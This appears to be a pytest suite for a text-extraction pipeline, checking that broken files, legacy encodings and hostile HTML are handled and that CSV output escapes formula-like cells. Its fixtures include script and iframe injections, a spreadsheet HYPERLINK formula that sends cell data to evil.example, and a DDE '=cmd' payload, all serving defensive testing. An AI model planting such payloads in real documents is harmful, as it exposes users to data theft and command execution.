"""Broken or hostile input never crashes a run, corrupts outputs or reaches a spreadsheet
as a formula: the ingest torture corpus plus hostile pages, run through ``pipeline extract``.

One in-process run (``--workers 1``) per fixture; the checks read the written tables.
"""

from __future__ import annotations

import builtins
import csv
import io
import json
import os
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from pipeline import ingest
from pipeline.cli import main
from pipeline.ingest import decode  # noqa: F401 (ingest.decode is patched)
from pipeline.output.schema import TABLES
from pipeline.output.write import FORMULA_PREFIXES, to_csv_bytes

try:
    from tests.torture.build import FR, JA, KO, W1252, build
except ImportError:  # tests/ on sys.path instead of the repository root
    from torture.build import FR, JA, KO, W1252, build

EXIT_PARTIAL = 3
ANNOTATION_TABLES = ("sentences", "mentions", "dates", "figures", "relations")
SPAN_TABLES = ("sentences", "mentions", "dates", "figures")

KOREAN = (
    "서울시는 내년부터 새로운 대중교통 정책을 시행한다고 발표했다. 시장은 버스 노선이 "
    "늘어나고 요금이 동결될 것이라고 말했다. 시의회는 다음 달 예산안을 심의할 예정이다."
)
FRENCH = (
    "Le conseil municipal de Nantes a approuvé mardi un nouveau budget pour les transports. "
    "Le maire a déclaré que douze lignes de bus seraient ajoutées d'ici à la fin de l'année, "
    "et que les tarifs resteraient inchangés pour les élèves et les retraités."
)
GERMAN = (
    "Der Stadtrat von Hamburg hat am Dienstag einen neuen Haushalt für den Nahverkehr "
    "beschlossen. Der Bürgermeister sagte, dass bis zum Jahresende zwölf neue Buslinien "
    "eingerichtet werden und die Preise für Schüler unverändert bleiben."
)
ARTICLE = (
    "The port authority of Westhaven approved a new ferry terminal on Monday, its chairman "
    "Tom Reyes said. The terminal will cost 80 million dollars and open in 2026.\n"
    "Local traders welcomed the decision, saying it would bring visitors to the old town.\n"
)
_ARTICLE_LINES = ARTICLE.strip().split("\n")
MARKER = "ZZMARKER"  # text that must never reach a body
HOSTILE = (
    "<html><head><title>Ferry terminal approved</title>"
    f"<style>body {{ color: red }} .{MARKER}style {{ }}</style>"
    f"<script>document.write('{MARKER}script'); alert(1)</script>"
    f"<script src='x.js'>{MARKER}src</script></head>"
    f"<body onload=\"alert('{MARKER}onload')\">"
    f"<iframe src='https://evil.example/'>{MARKER}iframe</iframe>"
    f"<noscript>{MARKER}noscript</noscript>"
    "<article><h1>Ferry terminal approved</h1>"
    + "".join(f"<p>{p}</p>" for p in _ARTICLE_LINES)
    + f"<script>var {MARKER}inline = 1;</script>"
    f"<svg><script>{MARKER}svg</script></svg>"
    f'<a href="javascript:alert(\'{MARKER}href\')">share</a>'
    "</article></body></html>"
)
INVISIBLE = (  # never shown by a browser: removed before trafilatura
    "<html><body><article><h1>Ferry terminal approved</h1>"
    + "".join(f"<p>{p}</p>" for p in _ARTICLE_LINES)
    + f"<template><p>{MARKER}template</p></template>"
    f"<p hidden>{MARKER}hidden</p><p style='display:none'>{MARKER}display</p>"
    "</article></body></html>"
)
MALFORMED = (
    "<html><head><title>Market hall reopens</head><body><div><p>The market hall in "
    "Eastbridge reopened on Saturday after a two-year renovation, the council said.<p>"
    "<b>About 40 traders <i>returned</b> to their stalls</i>, and the mayor Ann Price "
    "cut the ribbon.</div></div></span><table><tr><td>Opening hours: 8am to 6pm"
    "<p class=unquoted id='x>The hall cost 12 million pounds.<!-- a comment never closed "
    "<div><![CDATA[ raw ]]></p></body></html></html><p>"
)
NAV_ONLY = (
    "<html><head><title>Home</title></head><body><nav><a href='/'>Home</a> "
    "<a href='/news'>News</a> <a href='/sport'>Sport</a></nav>"
    "<footer>Copyright 2024. All rights reserved.</footer></body></html>"
)


def _article(tag: str) -> str:
    return ARTICLE + f"The authority filed the plan as case {tag}.\n"


# name -> (bytes, expected source_path outcome "ok" / "error")
EXTRA = {
    "x/korean.txt": (KOREAN.encode("cp949"), "ok"),
    "x/french.html": (
        f"<html><head><meta charset='iso-8859-1'><title>Budget</title></head><body><article>"
        f"<p>{FRENCH}</p></article></body></html>".encode("latin-1"),
        "ok",
    ),
    "x/german.jsonl": (json.dumps({"text": GERMAN, "title": "Haushalt"}).encode() + b"\n", "ok"),
    "x/nav_only.html": (NAV_ONLY.encode(), "ok"),
    "x/hostile.html": (HOSTILE.encode(), "ok"),
    "x/malformed.html": (MALFORMED.encode(), "ok"),
    "x/dup_a.txt": (_article("dup").encode(), "ok"),
    "x/dup_b.txt": (_article("dup").encode(), "error"),  # same article, another name
    "x/dup_c.jsonl": (json.dumps({"text": _article("dup")}).encode() + b"\n", "error"),
    "x/unreadable.txt": (_article("unreadable").encode(), "error"),
    "x/corrupt.txt": (_article("corrupt").encode(), "ok"),
    "x/corrupt.meta.json": (b'{"title": "Half a sidecar", "published": "2024-', "error"),
    "x/mixed.jsonl": (
        json.dumps({"text": _article("line 1")}).encode() + b"\n"
        + b'{"text": "cut short\n'
        + b"\xff\xfe not json at all\n"
        + json.dumps({"html": f"<p>{_article('line 4')}</p>", "published": "2024-03-05"}).encode()
        + b"\n",
        "ok",  # the good lines are documents; the bad ones are errors naming their line
    ),
}


class _NoPermission:
    """Make one file unreadable even for root (chmod 000 does not stop root)."""

    def __init__(self, name: str):
        self.name = name

    def __call__(self, file, *args, **kwargs):
        if os.fspath(file).endswith(self.name):
            raise PermissionError(13, "Permission denied", os.fspath(file))
        return builtins.open(file, *args, **kwargs)


def _read(out: Path, table: str):
    """(the Parquet table, the CSV as raw rows of strings)."""
    frame = pq.read_table(out / f"{table}.parquet")
    with open(out / f"{table}.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return frame, rows


@pytest.fixture(scope="module")
def torture(tmp_path_factory):
    base = tmp_path_factory.mktemp("torture")
    corpus = base / "corpus"
    corpus.mkdir()
    expected = build(corpus)
    for name, (data, outcome) in EXTRA.items():
        path = corpus / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        expected[name] = outcome
    os.chmod(corpus / "x/unreadable.txt", 0)
    out = base / "out"
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(ingest.decode, "open", _NoPermission("x/unreadable.txt"), raising=False)
        code = main(["extract", str(corpus), "--out", str(out), "--quiet", "--workers", "1",
                     "--no-cache"])
    os.chmod(corpus / "x/unreadable.txt", 0o644)
    documents = pd.read_parquet(out / "documents.parquet")
    errors = pd.read_parquet(out / "errors.parquet")
    return corpus, out, code, expected, documents, errors


def test_exit_code_says_partial(torture):
    assert torture[2] == EXIT_PARTIAL


def test_every_good_input_is_a_document_and_every_bad_one_an_error(torture):
    _, _, _, expected, documents, errors = torture
    doc_paths = set(documents["source_path"])
    severity = errors.groupby("source_path")["severity"].agg(set).to_dict()
    for path, outcome in expected.items():
        if outcome == "ok":
            assert path in doc_paths, path
        else:
            assert outcome in severity[path], path
            assert path not in doc_paths, path
    assert doc_paths <= set(expected)  # hidden files, reserved names: nothing else


# reason words an error message must contain, by source path (a sample of each kind)
REASONS = {
    "empty.txt": "empty file",
    "whitespace.txt": "empty file",
    "photo.txt": "binary content (looks like PNG)",
    "report.txt": "binary content (looks like PDF)",
    "letter.html": "binary content (looks like ZIP",
    "nul_bytes.txt": "binary content",
    "huge.txt": "file too large",
    "report.pdf": "unsupported file type",
    "undecodable.txt": "cannot decode",
    "broken_link.txt": "broken symbolic link",
    "self_loop.txt": "symbolic link loop",
    "link_outside.txt": "symbolic link to a target outside the corpus folder",
    "page.meta.json": "field 'extra' = 1 is not one the pipeline reads",
    "with_typed_sidecar.meta.json": "field 'published' must be a string, got int (20240305)",
    "pipe.txt": "not a regular file",
    "folder.txt": "Is a directory",
    "orphan.meta.json": "sidecar without article",
    "with_bad_sidecar.meta.json": "invalid JSON",
    "with_deep_sidecar.meta.json": "nested too deeply",
    "x/corrupt.meta.json": "invalid JSON",
    "x/unreadable.txt": "Permission denied",
    "x/dup_b.txt": "duplicate of x/dup_a.txt",
    "x/dup_c.jsonl": "duplicate of x/dup_a.txt",
}


def test_error_messages_name_the_reason(torture):
    *_, expected, _, errors = torture
    messages: dict[str, list[str]] = {}
    for row in errors.itertuples():
        messages.setdefault(row.source_path, []).append(row.message)
    for path, words in REASONS.items():
        if path in expected:  # links and pipes exist only where the platform allows
            assert any(words in m for m in messages[path]), (path, messages[path])
    for path, found in messages.items():
        for message in found:
            assert message.strip() and "Traceback" not in message, (path, message)
            assert "internal error" not in message, (path, message)
    # only input problems: no stage after ingest failed on any torture document
    assert set(errors["stage"]) <= {"ingest", "resolve"}, set(errors["stage"])
    mixed = " | ".join(messages["x/mixed.jsonl"])
    assert "line 2:" in mixed and "line 3:" in mixed and "line 1:" not in mixed


def test_a_duplicate_is_counted_once(torture):
    documents = torture[4]
    assert list(documents["source_path"]).count("x/dup_a.txt") == 1
    body = documents.set_index("source_path").loc["x/dup_a.txt", "body"]
    assert (documents["body"] == body).sum() == 1
    assert documents["doc_id"].is_unique


def test_legacy_encodings_reach_the_body(torture):
    docs = torture[4].set_index("source_path")
    cases = {  # path -> (text that must be in the body, encoding family)
        "korean_euckr.html": (KO, "cp949"),
        "korean_cp949.txt": (KO, "cp949"),
        "japanese_sjis.txt": (JA, "cp932"),
        "japanese_sjis_declared.html": (JA, "cp932"),
        "western_latin1.html": (FR, "cp1252"),
        "western_cp1252.txt": (W1252, "cp1252"),
        "utf16le_bom.txt": ("mayor's office", "utf-16"),
        "utf16be_bom.html": ("12 bus routes", "utf-16"),
        "x/korean.txt": (KOREAN.split(".")[0], "cp949"),
        "x/french.html": ("douze lignes", "cp1252"),
    }
    for path, (text, encoding) in cases.items():
        assert text in docs.loc[path, "body"], path
        assert docs.loc[path, "encoding"].startswith(encoding), (path, docs.loc[path, "encoding"])


def test_non_english_is_recorded_and_never_annotated(torture):
    docs = torture[4].set_index("source_path")
    for path, language in (("x/korean.txt", "ko"), ("x/french.html", "fr"),
                           ("x/german.jsonl", "de")):
        assert docs.loc[path, "language"] == language, path
        assert docs.loc[path, "status"] == f"not English ({language})", path
    skipped = set(docs.loc[~docs["status"].str.startswith("ok"), "doc_id"])
    assert {docs.loc[p, "doc_id"] for p in ("x/korean.txt", "x/french.html")} <= skipped
    out = torture[1]
    for table in ANNOTATION_TABLES:
        ids = set(pd.read_parquet(out / f"{table}.parquet")["doc_id"])
        assert not ids & skipped, table


def test_page_without_article_text(torture):
    docs = torture[4].set_index("source_path")
    assert docs.loc["x/nav_only.html", "status"] == "no article text"
    assert docs.loc["x/nav_only.html", "body"] == ""


def test_scripts_styles_and_iframes_never_reach_the_body(torture):
    documents = torture[4]
    assert not documents["body"].str.contains(MARKER).any()
    assert not documents["title"].str.contains(MARKER).any()
    body = documents.set_index("source_path").loc["x/hostile.html", "body"]
    assert "Westhaven" in body and "old town" in body


def test_invisible_elements_never_reach_the_body():
    from pipeline.clean.html import clean_html

    body = clean_html(INVISIBLE).body
    assert "Westhaven" in body
    assert MARKER not in body


def test_malformed_html_keeps_its_text(torture):
    docs = torture[4].set_index("source_path")
    body = docs.loc["x/malformed.html", "body"]
    assert "Eastbridge" in body and "Ann Price" in body
    assert "<" not in body


def test_good_lines_of_a_broken_jsonl_survive(torture):
    documents = torture[4]
    lines = documents.loc[documents["source_path"] == "x/mixed.jsonl", "source_line"]
    assert sorted(lines) == [1, 4]


def test_every_table_is_whole_in_both_formats(torture):
    out = torture[1]
    for table, columns in TABLES.items():
        parquet = pq.read_table(out / f"{table}.parquet")
        assert parquet.column_names == [c.name for c in columns], table
        # the CSV is exactly what the Parquet rows render to: same rows, nothing cut
        assert (out / f"{table}.csv").read_bytes() == to_csv_bytes(parquet.to_pylist(),
                                                                  columns), table
    assert not [p.name for p in out.iterdir() if p.name.endswith(".tmp")]


def test_offsets_point_into_the_body(torture):
    out = torture[1]
    bodies = torture[4].set_index("doc_id")["body"]
    for table in SPAN_TABLES:
        for row in pd.read_parquet(out / f"{table}.parquet").itertuples():
            assert 0 <= row.start <= row.end <= len(bodies[row.doc_id]), table
            assert bodies[row.doc_id][row.start:row.end] == row.text, (table, row.text)


def test_max_bytes_option_reports_and_skips(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "small.txt").write_text(_article("small"))
    (corpus / "large.txt").write_text(_article("large") * 3)
    limit = len(_article("large").encode()) + 10
    out = tmp_path / "out"
    code = main(["extract", str(corpus), "--out", str(out), "--clean-only", "--quiet",
                 "--workers", "1", "--max-bytes", str(limit)])
    assert code == EXIT_PARTIAL
    documents = pd.read_parquet(out / "documents.parquet")
    errors = pd.read_parquet(out / "errors.parquet")
    assert list(documents["source_path"]) == ["small.txt"]
    (message,) = errors.loc[errors["source_path"] == "large.txt", "message"]
    assert "file too large" in message and f"{limit:,}-byte limit" in message


# ----------------------------------------------------------------- spreadsheet safety

FORMULA_BODY = (
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\") was typed into the sheet.\n"
    "+44 20 7946 0000 is the number Harbour Bank gave for complaints on Monday.\n"
    "-5 percent was the fall in Harbour Bank shares, the chief executive Maria Santos said.\n"
    "@SUM(1+1) appeared in the bank's report, which Harbour Bank published in Lisbon.\n"
)


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("formula")
    corpus = base / "corpus"
    corpus.mkdir()
    (corpus / "=cmd.txt").write_text(FORMULA_BODY, encoding="utf-8")
    (corpus / "=cmd.meta.json").write_text(json.dumps({
        "title": "=cmd|' /C calc'!A0", "publisher": "@evil", "url": "-http://x.example",
    }), encoding="utf-8")
    (corpus / "\ttab.txt").write_text(_article("tab"), encoding="utf-8")
    (corpus / "\rcr.txt").write_text(_article("cr"), encoding="utf-8")
    (corpus / "new\nline.txt").write_text(_article("newline"), encoding="utf-8")
    (corpus / "+bad.pdf").write_bytes(b"%PDF-1.4\n")
    (corpus / "aliases.csv").write_text("alias,canonical,type\nHarbour Bank,=Harbour Group,ORG\n",
                                        encoding="utf-8")
    out = base / "out"
    code = main(["extract", str(corpus), "--out", str(out), "--quiet", "--workers", "1",
                 "--no-cache"])
    return out, code


def test_no_csv_text_cell_starts_like_a_formula(formula_run):
    out, code = formula_run
    assert code == EXIT_PARTIAL
    for table, columns in TABLES.items():
        parquet, rows = _read(out, table)
        assert rows[0] == [c.name for c in columns]
        assert len(rows) - 1 == parquet.num_rows, table
        for i, column in enumerate(columns):
            if column.kind != "str":
                continue
            raws = parquet.column(column.name).to_pylist()
            for cell, raw in zip((r[i] for r in rows[1:]), raws, strict=True):
                assert not cell.startswith(FORMULA_PREFIXES), (table, column.name, cell)
                if raw is not None and raw.startswith(FORMULA_PREFIXES):
                    assert cell == "'" + raw, (table, column.name, cell)
                else:
                    assert cell == ("" if raw is None else raw), (table, column.name, cell)


def _raw_values(out: Path, table: str, column: str) -> list[str]:
    return list(pd.read_parquet(out / f"{table}.parquet")[column].dropna())


@pytest.mark.parametrize("table, column, prefix", [
    ("documents", "title", "="),
    ("documents", "publisher", "@"),
    ("documents", "url", "-"),
    ("documents", "body", "="),
    ("errors", "source_path", "+"),
    ("sentences", "text", "+"),
    ("sentences", "text", "-"),
    ("sentences", "text", "@"),
    ("entities", "name", "="),
])
def test_formula_cells_reach_parquet_raw(formula_run, table, column, prefix):
    """Each dangerous prefix really occurs, raw in Parquet (so the test above bites)."""
    out, _ = formula_run
    assert any(v.startswith(prefix) for v in _raw_values(out, table, column)), (table, column)
    text = (out / f"{table}.csv").read_text(encoding="utf-8")
    assert "'" + prefix in text


def test_control_characters_in_file_names_are_escaped(formula_run):
    """A tab or carriage return in a file name would start a cell (tab: a formula prefix) or
    split a CSV row (a bare CR is not quoted by the csv module): ingest shows them escaped."""
    out, _ = formula_run
    paths = _raw_values(out, "documents", "source_path")
    assert {"\\ttab.txt", "\\rcr.txt", "new\\nline.txt"} <= set(paths)
    assert not any(ch in p for p in paths for ch in "\t\r\n")


def test_csv_is_read_back_with_the_apostrophe_only(formula_run):
    out, _ = formula_run
    frame = pd.read_csv(io.StringIO((out / "documents.csv").read_text(encoding="utf-8")),
                        dtype=str, keep_default_na=False)
    assert "'=cmd|' /C calc'!A0" in set(frame["title"])
